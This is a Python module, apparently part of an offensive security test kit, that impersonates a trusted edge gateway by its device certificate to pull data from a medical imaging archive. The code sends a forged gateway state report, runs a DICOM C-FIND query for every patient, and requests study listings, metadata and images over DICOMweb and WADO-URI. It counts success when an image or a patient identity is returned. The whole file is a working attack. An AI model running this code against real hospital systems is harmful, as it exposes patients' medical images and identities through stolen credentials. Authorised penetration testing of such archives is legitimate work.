"""Who took the gateway beside a modality shows its certificate to the archive, and asks and fetches with it."""

from __future__ import annotations

import http.client
import json
from collections.abc import Iterator

from .dicom import EXPLICIT_LE, STUDY_ROOT_FIND, everybody, open_association
from .kit import STORED_AS_IS, Brief, GaveUp, NotArmed, Result, ask, load_seeds, plain, run
from .search import Search

_STATE = {"waiting": 0, "waiting_bytes": 0, "oldest_seconds": 0.0, "refused": 0}
_HEARD = (204, 404)  # taken, or this archive has no such door
_LIST = {"Accept": "application/dicom+json"}


def attack(brief: Brief) -> Result:
    """Succeeds when an image or an identity comes back. The archive must know the certificate for what it is."""
    device = brief["device"]
    _report(brief, device)
    search = Search(load_seeds(brief))
    told = _listed(brief, device, search)
    statuses, image = [], False
    for path, form in _asked(**brief["study"]):
        answer = ask(brief, "GET", path, headers=form, certificate=device)
        search.feed(answer.body)
        image = image or b"DICM" in answer.body
        statuses.append(str(answer.status))
    told += f"; HTTP {'/'.join(statuses)}; image {'delivered' if image else 'not delivered'}"
    return Result(image or bool(search.found), f"{told}; {len(search.found)} identities told")


def _asked(study_uid: str, series_uid: str, instance_uid: str) -> Iterator[tuple[str, dict[str, str]]]:
    """Listings, metadata and the study itself, by DICOMweb and by WADO-URI."""
    root = f"/dicom-web/studies/{study_uid}"
    yield from ((path, _LIST) for path in ("/dicom-web/studies", f"{root}/instances", f"{root}/metadata"))
    yield root, STORED_AS_IS
    uids = f"studyUID={study_uid}&seriesUID={series_uid}&objectUID={instance_uid}"
    yield f"/wado?requestType=WADO&contentType=application/dicom&{uids}", {"Accept": "application/dicom"}


def _report(brief: Brief, device: dict[str, str]) -> None:
    """Say what a gateway may say. Raises NotArmed where that is refused: then the certificate is worth nothing."""
    state, headers = json.dumps(_STATE).encode(), {"Content-Type": "application/json"}
    try:
        heard = ask(brief, "POST", "/edge/state", body=state, headers=headers, certificate=device).status
    except (OSError, http.client.HTTPException) as failure:
        raise NotArmed(f"the gateway itself was not answered: {plain(failure)}") from None
    if heard not in _HEARD:
        raise NotArmed(f"the gateway itself was answered HTTP {heard}")


def _listed(brief: Brief, device: dict[str, str], search: Search) -> str:
    """C-FIND as the gateway; what came of it."""
    try:
        association = open_association(brief, device["ae"], [(STUDY_ROOT_FIND, EXPLICIT_LE)], device)
        for answer in association.find(everybody()):
            search.feed(answer)
        association.release()
    except (OSError, GaveUp) as failure:
        return f"C-FIND: {plain(failure)}"
    return "C-FIND answered"


if __name__ == "__main__":
    run(attack)
